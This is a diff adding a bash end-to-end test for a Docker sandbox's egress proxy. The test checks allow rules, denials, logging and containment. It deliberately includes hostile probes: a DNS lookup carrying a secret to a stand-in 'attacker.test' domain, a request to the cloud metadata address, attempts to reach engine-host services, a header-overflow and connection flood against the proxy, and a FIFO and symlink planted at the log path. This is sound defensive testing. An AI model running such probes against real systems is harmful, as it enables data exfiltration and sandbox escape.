@@ -1,0 +1,150 @@
+#!/usr/bin/env bash
+# run --allow-host against a local "internet" the suite makes: web servers on a network of their
+# own under several names. The sandbox reaches only what the rules allow, through the proxy;
+# a denied name, a port outside the rule, a name that resolves to loopback, a direct connection
+# (TCP and UDP) and a DNS lookup all fail; each decision is a line of --egress-log and the summary
+# counts them; run --check reports the same from inside; nothing is left behind (proxy, network,
+# image aside).
+source "$(dirname "$0")/common.sh"
+
+id=$$$RANDOM
+net=sbx-e2e-internet-$id
+web=sbx-e2e-web-$id
+on_exit "docker rm -f $web >/dev/null 2>&1"
+on_exit "docker network rm $net >/dev/null 2>&1"
+docker network create "$net" >/dev/null
+docker run -d --name "$web" --network "$net" --network-alias web.test --network-alias a.mirror.test \
+  --network-alias other.test "$IMAGE" \
+  sh -c 'mkdir -p /tmp/www && echo hello-from-web > /tmp/www/index.html && (httpd -p 8080 -h /tmp/www) && exec httpd -f -p 80 -h /tmp/www' >/dev/null
+web_ip=$(docker inspect -f "{{(index .NetworkSettings.Networks \"$net\").IPAddress}}" "$web")
+[ -n "$web_ip" ] || fail "the web server has no address"
+networks_before=$(docker network ls -q --filter label=docker-sandbox.managed=true | sort)
+
+# Podman 4.3's CNI networks have no DNS (no dnsname plugin): there the proxy cannot resolve the web
+# server's aliases, so the cases that need a name are left out and an address rule stands in.
+host=web.test
+rule=web.test
+if engine_is_podman; then
+  host=$web_ip
+  rule=$web_ip:80
+fi
+
+mkdir project && cd project
+sandbox() { # RULES... -- COMMAND: one run with its egress log in $TEST_DIR/log
+  local rules=()
+  while [ "$1" != -- ]; do rules+=(--allow-host "$1"); shift; done
+  shift
+  run_capture docker sandbox run "${rules[@]}" --egress-network "$net" --egress-log "$TEST_DIR/log" "$IMAGE" sh -c "$1"
+  log=$(cat "$TEST_DIR/log" 2>/dev/null || true)
+}
+
+if ! engine_is_podman; then
+  sandbox web.test -- 'wget -qO- http://web.test/'
+  expect_eq "$rc" 0 "an allowed name ($err)"
+  expect_eq "$out" hello-from-web "what it fetched"
+  expect_contains "$err" "egress: 1 allowed, 0 denied" "the summary"
+  expect_contains "$log" "\"method\":\"GET\",\"host\":\"web.test\",\"port\":80,\"address\":\"$web_ip\",\"decision\":\"allowed\"" "the log line"
+
+  sandbox web.test -- 'wget -qO- http://other.test/'
+  expect_eq "$rc" 1 "a name no rule allows"
+  expect_contains "$err" "403" "the proxy's answer"
+  expect_contains "$err" "egress: 0 allowed, 1 denied (other.test:80)" "the summary"
+  expect_contains "$log" '"host":"other.test","port":80,"address":"","decision":"denied","reason":"no rule allows other.test:80"' \
+    "the log line: refused before it was resolved"
+
+  sandbox '*.mirror.test' -- 'wget -qO- http://a.mirror.test/ && ! wget -qO- http://web.test/'
+  expect_eq "$rc" 0 "a wildcard allows a name under it, not another ($err)"
+  expect_contains "$err" "egress: 1 allowed, 1 denied (web.test:80)" "the summary"
+
+  sandbox web.test:8080 -- 'wget -qO- http://web.test:8080/ && ! wget -qO- http://web.test/'
+  expect_eq "$rc" 0 "a port rule allows that port only ($err)"
+  expect_contains "$log" '"port":8080,' "the allowed port's line"
+  expect_contains "$log" '"reason":"no rule allows web.test:80"' "the other port's line"
+fi
+
+sandbox "$web_ip:80" -- "wget -qO- http://$web_ip/"
+expect_eq "$rc" 0 "an address rule ($err)"
+expect_eq "$out" hello-from-web "what it fetched by address"
+
+sandbox localhost -- 'wget -qO- http://localhost/'
+expect_eq "$rc" 1 "an allowed name that resolves to loopback"
+expect_contains "$log" '"decision":"denied","reason":"localhost resolves to 127.0.0.1, a loopback address' "why"
+
+sandbox "$rule" -- "printf 'CONNECT $host:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n' | nc docker-sandbox-egress 3128"
+expect_eq "$rc" 0 "a CONNECT tunnel ($err)"
+expect_contains "$out" "HTTP/1.1 200 Connection established" "the tunnel"
+expect_contains "$out" "hello-from-web" "what came through it"
+
+# Around the proxy: the allowed address itself, directly, over TCP and UDP; a DNS lookup of a name
+# that would carry a secret out; the metadata address.
+sandbox "$rule" -- "! nc -w 3 $web_ip 80 </dev/null && ! echo x | nc -u -w 1 $web_ip 53 2>/dev/null; \
+  ! nslookup secret-$id.attacker.test >/dev/null 2>&1 && ! wget -qO- http://169.254.169.254/ >/dev/null 2>&1; echo done"
+expect_eq "$rc" 0 "the direct attempts ($err)"
+expect_eq "$out" done "every direct attempt failed"
+expect_contains "$err" "egress: 0 allowed, 1 denied (169.254.169.254:80)" "only the proxy saw the metadata request"
+
+# The engine host: a service of its own listening on all addresses (in a container on the host's
+# network, so on whichever host the engine runs), which a plain container on a bridge reaches at its
+# gateway. From the sandbox it is out of reach at the internal network's gateway (the default route,
+# or the first address of its subnet) and at the egress network's.
+port=$((20000 + RANDOM % 10000))
+host_service=sbx-e2e-host-service-$id
+on_exit "docker rm -f $host_service >/dev/null 2>&1"
+docker run -d --name "$host_service" --network host "$IMAGE" \
+  sh -c "while true; do echo host-service | nc -l -p $port; done" >/dev/null
+net_gateway=$(docker network inspect -f '{{range .IPAM.Config}}{{.Gateway}}{{end}}' "$net")
+reached=$(docker run --rm --network "$net" "$IMAGE" sh -c "sleep 1; nc -w 3 $net_gateway $port </dev/null" 2>&1 || true)
+expect_eq "$reached" host-service "the host's service from a plain container at $net_gateway (the control)"
+sandbox "$rule" -- "own=\$(ip -4 addr show eth0 | sed -n 's|.*inet \\([0-9.]*\\)/.*|\\1|p'); \
+  for a in \$(ip route | sed -n 's/^default via \\([0-9.]*\\).*/\\1/p') \${own%.*}.1 $net_gateway; do \
+    echo \"tried \$a\"; nc -w 2 \$a $port </dev/null; done"
+expect_eq "$rc" 1 "the engine host's service from the sandbox ($out)"
+expect_contains "$out" "tried $net_gateway" "the attempts"
+case "$out" in *host-service*) fail "the sandbox reached a service of the engine host: $out" ;; esac
+
+# The environment the sandbox gets, and its network: internal, alone with the proxy.
+sandbox "$rule" -- 'env | grep -i _proxy= | sort; cat /etc/hosts | grep docker-sandbox-egress'
+for var in HTTP_PROXY=http://docker-sandbox-egress:3128 https_proxy=http://docker-sandbox-egress:3128 \
+  ALL_PROXY=socks5h://docker-sandbox-egress:3128 'no_proxy=localhost,127.0.0.1,::1'; do
+  expect_contains "$out" "$var" "the proxy variables"
+done
+
+# Hostile clients: a huge header and a flood of connections leave the proxy serving.
+sandbox "$rule" -- "head -c 200000 /dev/zero | tr '\\\\0' a | (printf 'GET http://$host/ HTTP/1.1\r\nX: '; cat) | nc -w 3 docker-sandbox-egress 3128 | head -1; \
+  for i in \$(seq 50); do (printf 'CONNECT $host:80 HTTP/1.1\r\n\r\n' | nc -w 1 docker-sandbox-egress 3128 >/dev/null &); done; \
+  wget -qO- http://$host/"
+expect_eq "$rc" 0 "the proxy after hostile clients ($err)"
+expect_contains "$out" "431" "a head too large is refused"
+expect_contains "$out" "hello-from-web" "and the proxy still serves"
+
+# run --check: each egress probe from inside, against what the proxy's policy says of it.
+run_capture docker sandbox run --check --allow-host "$host:80" --egress-network "$net" "$IMAGE"
+expect_eq "$rc" 0 "run --check with --allow-host ($out $err)"
+for row in "through the proxy: $host:80 *allowed *allowed *ok" \
+  "through the proxy: docker-sandbox-check.invalid:443 *denied *denied *ok" \
+  "through the proxy: 127.0.0.1:80 *denied *denied *ok" "through the proxy: 169.254.169.254:80 *denied *denied *ok" \
+  "directly, around the proxy: [0-9.:]* *failed *failed *ok" "DNS lookup of docker-sandbox-check-[0-9a-f]*.test *failed *failed *ok"; do
+  printf '%s\n' "$out" | grep -q "$row" || fail "run --check's row [$row] in [$out]"
+done
+
+# What the project may plant at --egress-log's path: a FIFO (the run neither waits for a reader nor
+# writes into it: the log is refused, the run goes on), a linked directory (refused up front).
+mkfifo planted.jsonl
+run_capture timeout 120 docker sandbox run --allow-host "$rule" --egress-network "$net" --egress-log planted.jsonl "$IMAGE" true
+expect_eq "$rc" 0 "a FIFO at the log's path ($err)"
+expect_contains "$err" "--egress-log: planted.jsonl: not a regular file" "the warning"
+mkdir "$TEST_DIR/elsewhere"
+ln -s "$TEST_DIR/elsewhere" logs
+run_capture docker sandbox run --allow-host "$rule" --egress-network "$net" --egress-log logs/egress.jsonl "$IMAGE" true
+expect_eq "$rc" 125 "a linked directory on the log's path"
+expect_contains "$err" "--egress-log logs/egress.jsonl:" "the refusal"
+[ -z "$(ls -A "$TEST_DIR/elsewhere")" ] || fail "the log went through the project's link"
+
+run_capture docker sandbox run --allow-host 'bad host' "$IMAGE" true
+expect_eq "$rc" 125 "a bad rule"
+run_capture docker sandbox run --allow-host web.test --network bridge "$IMAGE" true
+expect_eq "$rc" 125 "--allow-host with --network"
+expect_contains "$err" "cannot be combined with --network bridge" "why"
+
+expect_no_leftovers
+expect_eq "$(docker network ls -q --filter label=docker-sandbox.managed=true | sort)" "$networks_before" "networks left behind"
